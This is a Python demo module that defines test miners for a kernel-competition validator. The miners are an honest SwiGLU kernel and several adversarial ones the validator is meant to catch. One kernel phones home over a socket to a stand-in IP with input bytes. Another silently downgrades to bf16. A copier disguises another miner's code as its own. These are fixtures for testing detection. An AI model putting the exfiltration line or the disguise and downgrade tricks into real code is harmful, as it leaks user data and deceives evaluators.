"""The demo's miners: what each commits (the template from `hotfloat new`, with its own, a broken or a cheating kernel
swapped in, or a disguised copy of another miner's revealed bundle) and the stage where the validator is expected to
stop it."""

from __future__ import annotations

import re
from dataclasses import dataclass

from ..authoring.template import bundle_files
from ..bundle import bundle_from_files, pack

ROW_BLOCKS = """\
\"\"\"SwiGLU gate in blocks of rows through one fp32 scratch buffer: sigmoid, then two in-place multiplies, so no
block allocates more than its scratch.\"\"\"

import torch

ROWS = 64


def _gate_block(x, out, lo, hi, d, scratch):
    gate = x[lo:hi, :d].float()
    buf = scratch[: hi - lo]
    torch.sigmoid(gate, out=buf)
    buf.mul_(gate).mul_(x[lo:hi, d:].float())
    out[lo:hi].copy_(buf)


def silu_and_mul(x, out):
    rows, d = x.shape[0], out.shape[-1]
    if rows == 0 or d == 0:
        return None
    scratch = torch.empty((min(rows, ROWS), d), dtype=torch.float32, device=x.device)
    for lo in range(0, rows, ROWS):
        _gate_block(x, out, lo, min(lo + ROWS, rows), d, scratch)
    return None
"""
BROKEN = """\
\"\"\"Forgets the up projection: returns silu(gate) instead of silu(gate) * up.\"\"\"

import torch


def silu_and_mul(x, out):
    d = out.shape[-1]
    out.copy_(torch.nn.functional.silu(x[:, :d].float()))
"""
DOWNGRADE = """\
\"\"\"Cheat: computes in bf16 whatever dtype was asked for (twice as fast on a GPU, wrong in fp32).\"\"\"

import torch


def silu_and_mul(x, out):
    d = out.shape[-1]
    xb = x.to(torch.bfloat16)
    out.copy_(torch.nn.functional.silu(xb[:, :d]) * xb[:, d:])
"""
EXFILTRATE = """\
\"\"\"Cheat: phones home with whatever it can read, then does the honest work.\"\"\"

import socket

import torch


def silu_and_mul(x, out):
    socket.create_connection(("203.0.113.7", 443), timeout=1).sendall(x.numpy().tobytes()[:64])
    d = out.shape[-1]
    out.copy_(torch.nn.functional.silu(x[:, :d].float()) * x[:, d:].float())
"""


@dataclass(frozen=True)
class Miner:
    """One demo miner: what it commits, and where the validator is expected to stop it (None: it is scored)."""

    name: str
    role: str
    kernel: str | None
    """Kernel source replacing the template's (None: the template from `hotfloat new` as written)."""
    expected_stage: str | None
    """The stage expected to FAIL it, or None when it should pass admission and reach qualification."""
    copies: str | None = None
    """The miner whose revealed bundle this one fetches, disguises and commits as its own."""


MINERS = (
    Miner("alice", "honest: its own row-blocked kernel", ROW_BLOCKS, None),
    Miner("bob", "broken: forgets the up projection", BROKEN, "admit"),
    Miner("carol", "cheating: bf16 math passed off as fp32", DOWNGRADE, "admit"),
    Miner("dave", "cheating: sends inputs over the network", EXFILTRATE, "scan"),
    Miner("mallory", "copier: alice's revealed kernel, renamed, reordered and padded", None, "intake", copies="alice"),
)
NAMES = {"_gate_block": "_rows", "scratch": "workspace", "lo": "first", "hi": "last", "buf": "acc", "gate": "g"}
DEAD = """

def _unused_tuning_table(n):
    return [min(256, 1 << k) for k in range(n) if k % 2 == 0]
"""


def disguise(source: str) -> str:
    """What a copier does to a revealed kernel before committing it as its own: other names, another order of
    definitions, a new docstring, a tweaked constant and a helper nobody calls."""
    body = re.sub(r"\b(" + "|".join(NAMES) + r")\b", lambda m: NAMES[m.group(1)], source.split('"""', 2)[2])
    body = body.replace("ROWS = 64", "ROWS = 96  # tuned")
    head, helper, entry = re.split(r"\n(?=def )", body)
    return '"""A fast SwiGLU gate, written from scratch."""\n' + head + "\n" + entry + "\n" + helper + DEAD


def copied_bundle(original: dict[str, bytes], name: str) -> tuple[str, bytes]:
    """The copier's identity and archive: the fetched bundle's files, every kernel disguised, under its own id."""
    files = dict(original)
    for path in [p for p in files if p.startswith("kernels/") and p.endswith(".py")]:
        files[path] = disguise(files[path].decode()).encode()
    files["manifest.toml"] = re.sub(
        rb'bundle_id = "[^"]*"', f'bundle_id = "{name}-gate"'.encode(), files["manifest.toml"]
    )
    bundle = bundle_from_files(files)
    return bundle.identity, pack(bundle)


def bundle_of(miner: Miner) -> tuple[str, bytes]:
    """The miner's identity and deterministic archive: the template, with the miner's kernel swapped in (a copier's
    comes from `copied_bundle`, once the bundle it copies is revealed)."""
    files = {k: v.encode() for k, v in bundle_files(["activation.silu_and_mul"], f"{miner.name}-silu").items()}
    if miner.kernel is not None:
        files["kernels/silu_and_mul.py"] = miner.kernel.encode()
    bundle = bundle_from_files(files)
    return bundle.identity, pack(bundle)


def publish(chain, wallets: dict, origin, advance, report, netuid: int, after: int) -> dict[str, str]:
    """What the miners do on chain: each commits its digest (the URL stays secret), lets it stand `after` blocks and
    reveals it; a copier then fetches the bundle it copies from the revealed URL, disguises it and does the same.
    Returns each miner's identity. `advance(n)` lets n blocks pass."""
    from ..bundle.archive import read_archive
    from ..chain.fetch import FetchPolicy, fetch_body
    from ..chain.miner import reveal_bytes, seal

    def commit(m: Miner, identity: str, archive: bytes):
        url = origin.serve(f"/{m.name}.tar.gz", archive)
        sealed = seal(identity, url, netuid, wallets[m.name].hotkey.ss58_address)
        block = chain.commit_digest(netuid, sealed.digest, wallets[m.name])
        report(
            f"miner {m.name} ({m.role}): committed digest {sealed.digest[:16]} at block {block}; its URL stays secret"
        )
        return sealed.model_copy(update={"commit_block": block})

    def reveal(m: Miner, sealed) -> None:
        block = chain.reveal(netuid, reveal_bytes(sealed, sealed.commit_block), wallets[m.name])
        report(f"miner {m.name}: revealed at block {block}: {sealed.identity[:16]} at {sealed.url}")

    identities, sealed = {}, {}
    for m in (m for m in MINERS if m.copies is None):
        identities[m.name], archive = bundle_of(m)
        sealed[m.name] = commit(m, identities[m.name], archive)
    advance(after)
    for name, s in sealed.items():
        reveal(next(m for m in MINERS if m.name == name), s)
    for m in (m for m in MINERS if m.copies is not None):
        policy = FetchPolicy(cafile=origin.cafile, allow_private=True)
        original = read_archive(fetch_body(sealed[m.copies].url, policy))
        identities[m.name], archive = copied_bundle(original, m.name)
        report(f"miner {m.name}: fetched {m.copies}'s revealed bundle, renamed, reordered and padded it")
        copied = commit(m, identities[m.name], archive)
        advance(after)
        reveal(m, copied)
    return identities


def read_reports(url: str, cafile: str, validator: str, names: dict[str, str], report) -> dict[str, list[str]]:
    """The miners read the validator's signed feed as `hotfloat chain report` does: hotkey -> its entries, one line
    each, once the signature verifies against the validator's hotkey."""
    from ..chain.feed import verify
    from ..chain.fetch import FetchPolicy, fetch_body

    signed = verify(fetch_body(url, FetchPolicy(cafile=cafile, allow_private=True)), validator)
    report(f"report feed: {url}, signature verified against the validator's hotkey {validator}")
    out: dict[str, list[str]] = {}
    for e in signed.entries:
        score = "" if e.scores is None or e.scores.settled is None else f", score {e.scores.settled:.4f}"
        secrets = "".join(f", {k} {v}" for k, v in sorted(e.secrets.items()))
        out.setdefault(e.hotkey, []).append(f"{e.stage}: {e.code.value}{score}, evidence {e.evidence[:12]}{secrets}")
        report(f"miner {names.get(e.hotkey, e.hotkey)} reads its report: {e.stage}: {e.code.value}: {e.reason}")
    report(f"  (a miner's own command: hotfloat chain report HOTKEY --feed {url} --validator {validator})")
    return out
